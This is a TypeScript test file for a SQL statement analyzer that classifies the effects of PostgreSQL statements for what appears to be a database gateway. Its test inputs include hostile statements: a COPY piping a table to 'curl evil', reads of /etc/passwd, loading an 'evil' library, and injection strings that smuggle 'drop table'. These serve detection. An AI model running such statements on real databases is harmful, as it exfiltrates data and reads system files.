import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { RULES } from '../../../../core/statement/sql/statement.ts';
import { catalogWithCast, catalogWithEventTrigger, emptyCatalog, state, stateWithTemporary } from './hand-catalog.ts';
import { effectsOf, parsers, read, readOne } from './reader.ts';

describe('a statement yields everything that it can cause', () => {
  test.each<readonly [string, readonly string[]]>([
    ['select purge()', ['execute public.purge']],
    ['select purge() from orders where id = 1', ['execute public.purge', 'select public.orders', 'select public.orders.id']],
    ["select dblink('x', 'drop table y')", ['execute public.dblink']],
    ["select lo_export(1, '/etc/passwd')", ['execute pg_catalog.lo_export']],
    ["select query_to_xml('delete from x', true, true, '')", ['execute pg_catalog.query_to_xml']],
    ["select * from ts_stat('select 1')", ['execute pg_catalog.ts_stat']],
    ["select nextval('order_ids')", ['execute pg_catalog.nextval']],
    ["select pg_notify('a', 'b')", ['execute pg_catalog.pg_notify', 'notify']],
    ["select set_config('role', 'admin', false)", ['setRole']],
    ["select set_config('session_replication_role', 'replica', false)", ['setParameter']],
    ["select set_config('application_name', 'x', false)", []],
    ['select set_config($1, $2, false)', ['unknown']],
    ["select set_config('search_path', 'app', false), order_total(1)", expect.arrayContaining(['unknown'])],
    ["select set_config('search_path', 'app', false)", []],
    ['do $$begin delete from orders; end$$', ['doBlock']],
    ['call archive(1)', ['execute public.archive']],
    ['explain analyze delete from orders', ['delete public.orders', 'explain']],
    ['explain delete from orders', ['delete public.orders', 'explain']],
    [
      'with d as (delete from orders where id = 1 returning id) select id from d',
      ['delete public.orders', 'select public.orders', 'select public.orders.id'],
    ],
    ['truncate orders', ['truncate public.orders']],
    ['truncate orders cascade', ['truncate', 'truncate public.orders']],
    ["copy orders to program 'curl evil'", expect.arrayContaining(['copyProgram', 'copyOut public.orders'])],
    ["copy orders from '/etc/passwd'", expect.arrayContaining(['unknown', 'copyIn public.orders', 'insert public.orders'])],
    ['copy orders (id) from stdin', ['copyIn public.orders', 'insert public.orders', 'insert public.orders.id']],
    ['copy (delete from orders returning id) to stdout', expect.arrayContaining(['copyOut', 'delete public.orders'])],
    ['prepare p as delete from orders', ['delete public.orders']],
    ['select 1 into made', ['create public.made']],
    ['create table made as select 1', ['create public.made']],
    ['create table made as execute p', expect.arrayContaining(['unknown', 'create public.made'])],
    ['delete from ruled', expect.arrayContaining(['unknown', 'delete public.ruled', 'delete public.orders'])],
    ['delete from customer_names where id = 1', expect.arrayContaining(['delete public.customer_names', 'delete public.customers'])],
    [
      'update customer_cards set who = 2 where who = 1',
      expect.arrayContaining(['update public.customer_cards', 'update public.customers', 'update public.customers.id']),
    ],
    ['select id from customer_names', expect.arrayContaining(['select public.customer_names', 'select public.customers'])],
    [
      'insert into audited (id) values (1)',
      expect.arrayContaining(['execute public.audit_row', 'execute public.next_number', 'execute public.check_amount']),
    ],
    ['select id from audited', ['execute public.may_see', 'select public.audited', 'select public.audited.id']],
    [
      'delete from payments where id = 1',
      expect.arrayContaining(['delete public.payments', 'delete public.payments_2025', 'delete archive.payments_2026']),
    ],
    ['insert into payments (id) values (1)', expect.arrayContaining(['insert public.payments', 'insert archive.payments_2026'])],
    ['select id from only payments', ['select public.payments', 'select public.payments.id']],
    ['select order_total(1)', expect.arrayContaining(['execute public.order_total', 'select public.orders.amount'])],
    ['select nested()', ['delete public.orders', 'execute public.nested', 'execute public.wipe']],
    ['select plus_one(1)', ['execute public.next_number', 'execute public.plus_one']],
    ['delete from audited where id = 1', expect.arrayContaining(['delete public.audited', 'delete public.moods'])],
    ['select hidden_path()', expect.arrayContaining(['execute public.hidden_path', 'unknown'])],
    ["select 'a' ~~~ 'b'", ['execute public.fuzzy_eq']],
    ["select 'a' operator(public.~~~) 'b'", ['execute public.fuzzy_eq']],
    ["select 'x'::box3", ['execute public.box3_in']],
    ["select box3('x')", ['execute public.box3_in']],
    ['select mail from moods', expect.arrayContaining(['execute public.valid_email'])],
    ["insert into moods (mail) values ('x')", expect.arrayContaining(['execute public.valid_email'])],
    ['select c.purge from app.customers c', expect.arrayContaining(['execute public.purge'])],
    ['select * from orders for update', expect.arrayContaining(['lock public.orders'])],
    ['lock table orders', ['lock public.orders']],
    ['notify a', ['notify']],
    ['listen a', ['listen']],
    ['vacuum', ['maintain']],
    ['analyze orders', ['maintain public.orders']],
    ['reindex table audited', ['execute public.check_amount', 'maintain public.audited']],
    ['checkpoint', ['maintain']],
    ['set role admin', ['setRole']],
    ['set session authorization bob', ['setRole']],
    ['reset role', ['setRole']],
    ['set row_security = off', ['setParameter']],
    ['set session_replication_role = replica', ['setParameter']],
    ["set client_encoding = 'latin1'", ['setParameter']],
    ['alter system set fsync = off', ['alter', 'setParameter']],
    ['grant select on orders to bob', ['grant public.orders']],
    ['grant admin to bob', ['grant']],
    ['revoke all on all tables in schema public from bob', ['grant public']],
    ['create role bob', ['grant']],
    ['drop table orders', ['drop public.orders']],
    ['drop table orders cascade', ['drop', 'drop public.orders']],
    ['drop table customers', ['alterMasked public.customers', 'drop public.customers']],
    ['drop schema app', ['drop app']],
    ['drop function purge', ['drop public.purge']],
    ['alter table orders add column x int4', ['alter public.orders']],
    ['alter table customers rename column ssn to x', ['alter public.customers', 'alterMasked public.customers']],
    ['alter table payments attach partition customers default', expect.arrayContaining(['alterMasked public.customers'])],
    ['comment on column customers.ssn is $$x$$', ['alter public.customers', 'alterMasked public.customers']],
    ['create table made (id serial, x int4 default purge())', ['create public.made', 'execute public.purge']],
    ['create table app.made (like customers)', ['alterMasked public.customers', 'create app.made']],
    ['create index on orders (purge(id))', expect.arrayContaining(['create public.orders', 'execute public.purge'])],
    ['create function f() returns int4 language sql as $$select 1$$', ['create public.f']],
    ['create trigger t before insert on orders for each row execute function audit_row()', ['alter public.orders']],
    [
      'create rule r as on insert to orders do also delete from moods',
      expect.arrayContaining(['alter public.orders', 'unknown', 'delete public.moods']),
    ],
    ['create schema made create table inside (x int4)', expect.arrayContaining(['create made'])],
    ['create extension dblink', ['create']],
    ["load 'evil'", ['unknown']],
    ['select * from nowhere', ['unknown']],
    ['select missing from orders', ['select public.orders', 'unknown']],
    ['select missing_function(1)', ['unknown']],
    ["select 'x'::missing_type", ['unknown']],
    ['select pg_temp.f()', ['unknown']],
    ['select * from pg_toast.pg_toast_1001', ['unknown']],
    ['select * from broken_view', expect.arrayContaining(['unknown'])],
    ['commit prepared $$x$$', ['unknown']],
    [
      'delete from public.orders /* not a comment about drop */ where id = 1',
      ['delete public.orders', 'select public.orders', 'select public.orders.id'],
    ],
  ])('%s', (text, expected) => {
    expect(effectsOf(readOne(text))).toEqual(expected);
  });

  test('a cast of the target runs when a value of its types is touched', () => {
    expect(effectsOf(readOne("select 'x'::varchar::mood", { catalog: catalogWithCast }))).toContain('execute public.text_to_mood');
    expect(effectsOf(readOne('select mood from moods', { catalog: catalogWithCast }))).toContain('execute public.text_to_mood');
  });

  test('a function of the same name in another schema of the path counts as well', () => {
    const wide = { ...state, searchPath: ['pg_catalog', 'app', 'public'] };
    expect(effectsOf(readOne("select lower('X')"))).toEqual([]);
    expect(effectsOf(readOne("select lower('X')", { state: wide }))).toEqual(['execute app.lower']);
    expect(effectsOf(readOne("select pg_catalog.lower('X')", { state: wide }))).toEqual([]);
    expect(effectsOf(readOne('select label from customers', { state: wide }))).toContain('select app.customers.label');
  });

  test('temporary types make unqualified type names unknown', () => {
    const withCode = { ...stateWithTemporary, tempCode: true };
    expect(effectsOf(readOne("select 'x'::text", { state: withCode }))).toEqual(['unknown']);
    expect(effectsOf(readOne("select 'x'::pg_catalog.text", { state: withCode }))).toEqual([]);
  });

  test('DDL runs event triggers without naming them', () => {
    expect(effectsOf(readOne('create table made (x int4)', { catalog: catalogWithEventTrigger }))).toEqual([
      'create public.made',
      'execute public.purge',
    ]);
    expect(effectsOf(readOne('select 1 into made', { catalog: catalogWithEventTrigger }))).toContain('execute public.purge');
  });

  test('a rule or trigger says what led to it', () => {
    const { effects } = readOne('update audited set note = $1 where id = 2');
    expect(effects.find((effect) => effect.resource.path[1] === 'audit_row')?.via).toBe('trigger on_change on public.audited');
  });
});

describe('drivers and harmless statements cause nothing', () => {
  test.each([
    'select 1',
    "select 'drop table orders; delete from orders' as text",
    'select "delete" from (select 1 as "delete") t',
    'show server_version',
    'begin isolation level serializable',
    'commit and chain',
    'savepoint a',
    "set application_name = 'x'",
    'set datestyle = iso',
    'set extra_float_digits = 3',
    "set client_encoding to 'UTF8'",
    'set statement_timeout = 5',
    'set enable_seqscan = off',
    'set search_path = app',
    "set time zone 'UTC'",
    'reset all',
    'discard all',
    'deallocate p',
    'set transaction read only',
    'set session characteristics as transaction isolation level read committed',
    "select 'pg_class'::regclass",
    'select current_user, session_user, now(), version()',
    "select current_setting('x')",
  ])('%s', (text) => {
    expect(effectsOf(readOne(text))).toEqual([]);
  });
});

describe('facts', () => {
  test.each<readonly [string, boolean]>([
    ['delete from orders', true],
    ['delete from orders where true', true],
    ['delete from orders where 1 = 1', true],
    ['update orders set status = $1 where id = id', true],
    ['update orders set status = $1 where id is not null', true],
    ["update orders set status = 'x' where 'a' = 'a' or id = 3", true],
    ['delete from orders where id = 3', false],
    ['delete from orders where id = 3 and true', false],
    ['select * from orders', true],
    ['select * from orders where id = 1', false],
    ['select count(*) from orders', false],
    ['select * from orders limit 10', false],
  ])('%s is unbounded: %s', (text, expected) => {
    expect(readOne(text).facts.unbounded).toBe(expected);
  });

  test.each<readonly [string, boolean]>([
    ['select * from orders', true],
    ['select json_agg(o) from orders o', true],
    ['select * from (select * from orders) t', true],
    ['with t as (select * from orders) select * from t', true],
    ['select * from ruled', true],
    ['select * from orders limit 1000000', true],
    ['select * from orders limit all', true],
    ['copy orders to stdout', true],
    ['select * from customers', false],
    ['select * from orders limit 100', false],
    ['select sum(amount) from orders', false],
    ['select * from orders where status = $1', false],
    ['select * from pg_class', false],
  ])('%s exports a table in full: %s', (text, expected) => {
    expect(readOne(text).facts.fullExport).toBe(expected);
  });

  test.each<readonly [string, boolean]>([
    ['select purge()', true],
    ['select as_other()', true],
    ['select sql_broken()', true],
    ['select order_total(1)', false],
    ['insert into audited values (1)', true],
    ['select id from remote', true],
    ['do $$begin end$$', true],
    ['select id from orders', false],
  ])('%s is opaque: %s', (text, expected) => {
    expect(readOne(text).facts.opaque).toBe(expected);
  });

  test('the size of what is read is estimated', () => {
    expect(readOne('select * from orders').facts.rows).toBe(2_000_000);
    expect(readOne('select * from orders limit 5').facts.rows).toBe(5);
    expect(readOne('select count(*) from orders').facts.rows).toBe(1);
    expect(readOne('select * from orders where id = 1').facts.rows).toBe(-1);
  });

  test.each<readonly [string, boolean]>([
    ['select id from orders', true],
    ['explain select id from orders', true],
    ['explain analyze select id from orders', false],
    ['begin', true],
    ['fetch 1 from c', true],
    ['declare c cursor for select id from orders', true],
    ['select id from orders for share', false],
    ["select nextval('order_ids')", false],
    ['select plus_one(1)', false],
    ['with d as (delete from orders returning id) select 1 from d', false],
    ['select * from nowhere', false],
    ['set jit = off', false],
    ['execute p', false],
    ['select 1 into made', false],
  ])('%s is a plain read: %s', (text, expected) => {
    expect(readOne(text).plainRead).toBe(expected);
  });
});

describe('texts of several statements', () => {
  test.each([
    'set search_path = app; select * from customers',
    'set role admin; delete from orders where id = 1',
    'create table t (x int4); select * from t',
    'select purge(); select 1',
    'begin; set local role admin; select 1; commit',
    'rollback; select 1',
    'prepare p as select purge(); execute p',
    'deallocate p; prepare p as select ssn from customers; execute p',
    'close c; declare c cursor for select ssn from customers; fetch all from c',
    'deallocate all; explain analyze execute p',
  ])('are refused when one changes what the next one names: %s', (text) => {
    expect(read(text)).toMatchObject({ kind: 'unjudgeable', reason: expect.stringContaining('send it alone') });
  });

  test.each<readonly [string, number]>([
    ['begin; delete from orders where id = 1; commit', 3],
    ['set statement_timeout = 5; select 1', 2],
    ['begin; create table t (x int4); commit', 3],
    [';;select 1;; -- done', 1],
    ['', 0],
    ['-- nothing', 0],
  ])('are read one by one: %s', (text, count) => {
    const reading = read(text);
    expect(reading.kind === 'read' ? reading.statements.length : reading).toBe(count);
  });

  test('are cut at exact bytes, comments before them left out', () => {
    const text = "/* é /* nested */ */ select 'é;' ; -- x\n  delete from orders where id = 1  ;";
    const reading = read(text);
    const bytes = Buffer.from(text);
    const cut = reading.kind === 'read' ? reading.statements.map((one) => bytes.toString('utf8', one.startByte, one.endByte)) : [];
    expect(cut).toEqual(["select 'é;'", 'delete from orders where id = 1']);
  });
});

describe('what lexers get wrong', () => {
  test.each<readonly [string, readonly string[]]>([
    ["select $a1$ ' $a1$; delete from orders", ['select', 'delete']],
    ['select 1 -- x\rdelete', ['select']],
    ['select a$b from (select 1 as a$b) t; truncate orders', ['select', 'truncate']],
    ["select 'a\\'; drop table orders; --'", ['select', 'drop']],
    ["select E'a\\'; drop table orders; --'", ['select']],
    ['select 1 /* /* */ ; drop table orders; */', ['select']],
    ['delete from U&"ord\\0065rs"', ['delete']],
  ])('%s', (text, kinds) => {
    const reading = read(text);
    expect(reading.kind === 'read' ? reading.statements.map((one) => one.kind) : reading.reason).toEqual(kinds);
  });

  test('an escaped identifier is the table that it names', () => {
    expect(effectsOf(readOne('delete from U&"ord\\0065rs"'))).toEqual(['delete public.orders']);
  });
});

describe('session control', () => {
  test.each<readonly [string, object]>([
    ['begin', { transaction: 'begin' }],
    ['rollback and chain', { transaction: 'rollback', chain: true, dirtiesState: true }],
    ['rollback to a', { transaction: 'rollbackTo', dirtiesState: true }],
    ['execute p(1)', { execute: { name: 'p' } }],
    ['explain execute p', { execute: { name: 'p' } }],
    ['deallocate all', { deallocate: { name: 'all' } }],
    ['declare c cursor with hold for select 1', { declareCursor: { name: 'c', hold: true } }],
    ['close c', { closeCursor: { name: 'c' } }],
    ["set sallyport.reason = 'fix'", { gatewaySetting: { name: 'sallyport.reason', value: 'fix' }, dirtiesState: false }],
    ['reset sallyport.approval', { gatewaySetting: { name: 'sallyport.approval', value: '' } }],
    ['set search_path = app', { dirtiesState: true, dirtiesCatalog: false }],
    ['create table t (x int4)', { dirtiesState: true, dirtiesCatalog: true }],
    ['select purge()', { dirtiesState: true, dirtiesCatalog: true }],
    ["select nextval('x')", { dirtiesState: false, dirtiesCatalog: false }],
    ['copy orders to stdout csv header delimiter $$;$$', { copy: { direction: 'out', format: 'csv', header: true, delimiter: ';' } }],
    ['copy orders from stdin binary', { copy: { direction: 'in', format: 'binary' } }],
  ])('%s', (text, expected) => {
    expect(readOne(text).control).toMatchObject(expected);
  });

  test('PREPARE carries the reading of its body, and its own text', () => {
    const { control } = readOne(' prepare p(int4) as delete from orders where id = $1 ;');
    expect(control.prepare).toMatchObject({
      name: 'p',
      bodyText: 'prepare p(int4) as delete from orders where id = $1',
      body: { kind: 'delete' },
    });
  });

  test('rows of FETCH and EXECUTE are those of another statement', () => {
    expect(readOne('fetch 2 from c').rowsFrom).toEqual({ kind: 'cursor', name: 'c' });
    expect(readOne('execute p').rowsFrom).toEqual({ kind: 'prepared', name: 'p' });
    expect(readOne('move 2 in c').rowsFrom).toBeUndefined();
  });

  test("a role's password is marked from the option to the end of the statement", () => {
    const text = "alter role bob password 'hunter2'";
    expect(readOne(text).sensitiveLiterals).toEqual([{ startByte: text.indexOf('password'), endByte: text.length }]);
  });
});

describe('what cannot be judged', () => {
  test.each<readonly [string, string]>([
    ['select 1\0; drop table orders', 'NUL'],
    ['select \uD800', 'Unicode'],
    ['selekt 1', 'grammar refuses'],
    [`select ${'lower('.repeat(1500)}1${')'.repeat(1500)}`, 'too deeply'],
    [`select ${'('.repeat(100_000)}`, 'grammar refuses'],
  ])('%j', (text, reason) => {
    expect(read(text)).toMatchObject({ kind: 'unjudgeable', reason: expect.stringContaining(reason) });
  });

  test('a refusal of the grammar is placed at its byte', () => {
    expect(read("select 'é😀' fron x y")).toMatchObject({ atByte: Buffer.byteLength("select 'é😀' fron ") });
  });

  test('a text too deep for the parser costs one instance, not the parser', async () => {
    const { loadParser } = await import('../../../../core/statement/sql/parse.ts');
    const parser = await loadParser(16);
    expect(parser.parse(`select ${'1+'.repeat(200_000)}1`)).toMatchObject({ kind: 'unjudgeable' });
    await expect.poll(() => parser.parse('select 1').kind, { timeout: 10_000 }).toBe('parsed');
  });
});

test('every statement of the grammar has a rule', () => {
  const missing = STATEMENT_NODES.filter((node) => !RULES.has(node));
  expect(missing).toEqual([]);
});

test('nodes mean what they mean in the grammar of the target', () => {
  expect(effectsOf(readOne('select system_user', { major: 15 }))).toEqual(['unknown']);
  expect(read('select 0x1F', { major: 15 }).kind).toBe('read');
  expect(read("select json_value(x, '$') from t", { major: 18 }).kind).toBe('read');
  expect(parsers[15].parse('merge into a using b on true when not matched by source then delete').kind).toBe('unjudgeable');
});

describe('properties', () => {
  const words = fc.constantFrom(
    'select',
    'ssn',
    'from',
    'customers',
    'c',
    ',',
    '(',
    ')',
    '*',
    'where',
    '=',
    '$1',
    "'x'",
    'union',
    'all',
    'with',
    'as',
    'lower',
    '.',
    'id',
    'order by',
    'group by',
    'join',
    'on',
    'using',
    'lateral',
    'exists',
    'in',
    'limit',
    '1',
    'null',
    'is',
    'not',
    'and',
    'or',
    'delete',
    'insert into',
    'values',
    'update',
    'set',
    'returning',
    'orders',
    'count',
    ';',
    'case',
    'when',
    'then',
    'end',
    'over',
    'distinct',
    'array',
    '[',
    ']',
    '::',
    'text',
  );

  test('no text makes the reader throw', () => {
    fc.assert(
      fc.property(fc.array(words, { maxLength: 25 }), (parts) => {
        const kind = read(parts.join(' ')).kind;
        return kind === 'read' || kind === 'unjudgeable';
      }),
      { numRuns: 3000 },
    );
  });

  test('a masked column under any expression is either an output column that carries it, or a use', () => {
    const leaf = fc.constantFrom('c.ssn', 'ssn', '(c).ssn', 'c.ssn');
    const wrap = fc.constantFrom<(inner: string) => string>(
      (x) => `lower(${x})`,
      (x) => `(${x})::text`,
      (x) => `coalesce(${x}, '')`,
      (x) => `case when true then ${x} end`,
      (x) => `(select ${x})`,
      (x) => `array[${x}]`,
      (x) => `(${x} || 'a')`,
      (x) => `row(${x})`,
      (x) => `(select max(${x}))`,
      (x) => `count(${x}) filter (where ${x} > 'a')`,
      (x) => `nullif(1, length(${x}))`,
    );
    fc.assert(
      fc.property(leaf, fc.array(wrap, { maxLength: 5 }), (start, wraps) => {
        const expression = wraps.reduce<string>((inner, outer) => outer(inner), start);
        const statement = readOne(`select ${expression} from customers c`);
        const carried = statement.output?.[0]?.sensitive.length === 1;
        return wraps.length === 0 ? carried && statement.uses.length === 0 : statement.uses.length > 0;
      }),
    );
  });

  test('with nothing known, a table that is named is never judged harmless', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('select * from x', 'delete from x', 'insert into x values (1)', 'update x set a = 1', 'copy x to stdout'),
        (text) => effectsOf(readOne(text, { catalog: emptyCatalog })).includes('unknown'),
      ),
    );
  });
});

/** The statement nodes of `nodes/parsenodes.h` that can stand at the top level. */
const STATEMENT_NODES = `AlterCollationStmt AlterDatabaseRefreshCollStmt AlterDatabaseSetStmt AlterDatabaseStmt AlterDefaultPrivilegesStmt
AlterDomainStmt AlterEnumStmt AlterEventTrigStmt AlterExtensionContentsStmt AlterExtensionStmt AlterFdwStmt AlterForeignServerStmt
AlterFunctionStmt AlterObjectDependsStmt AlterObjectSchemaStmt AlterOpFamilyStmt AlterOperatorStmt AlterOwnerStmt AlterPolicyStmt
AlterPublicationStmt AlterRoleSetStmt AlterRoleStmt AlterSeqStmt AlterStatsStmt AlterSubscriptionStmt AlterSystemStmt
AlterTSConfigurationStmt AlterTSDictionaryStmt AlterTableMoveAllStmt AlterTableSpaceOptionsStmt AlterTableStmt AlterTypeStmt
AlterUserMappingStmt CallStmt CheckPointStmt ClosePortalStmt ClusterStmt CommentStmt CompositeTypeStmt ConstraintsSetStmt CopyStmt
CreateAmStmt CreateCastStmt CreateConversionStmt CreateDomainStmt CreateEnumStmt CreateEventTrigStmt CreateExtensionStmt CreateFdwStmt
CreateForeignServerStmt CreateForeignTableStmt CreateFunctionStmt CreateOpClassStmt CreateOpFamilyStmt CreatePLangStmt CreatePolicyStmt
CreatePublicationStmt CreateRangeStmt CreateRoleStmt CreateSchemaStmt CreateSeqStmt CreateStatsStmt CreateStmt CreateSubscriptionStmt
CreateTableAsStmt CreateTableSpaceStmt CreateTransformStmt CreateTrigStmt CreateUserMappingStmt CreatedbStmt DeallocateStmt
DeclareCursorStmt DefineStmt DeleteStmt DiscardStmt DoStmt DropOwnedStmt DropRoleStmt DropStmt DropSubscriptionStmt DropTableSpaceStmt
DropUserMappingStmt DropdbStmt ExecuteStmt ExplainStmt FetchStmt GrantRoleStmt GrantStmt ImportForeignSchemaStmt IndexStmt InsertStmt
ListenStmt LoadStmt LockStmt MergeStmt NotifyStmt PrepareStmt ReassignOwnedStmt RefreshMatViewStmt ReindexStmt RenameStmt RuleStmt
SecLabelStmt SelectStmt TransactionStmt TruncateStmt UnlistenStmt UpdateStmt VacuumStmt VariableSetStmt VariableShowStmt
ViewStmt`.split(/\s+/u);
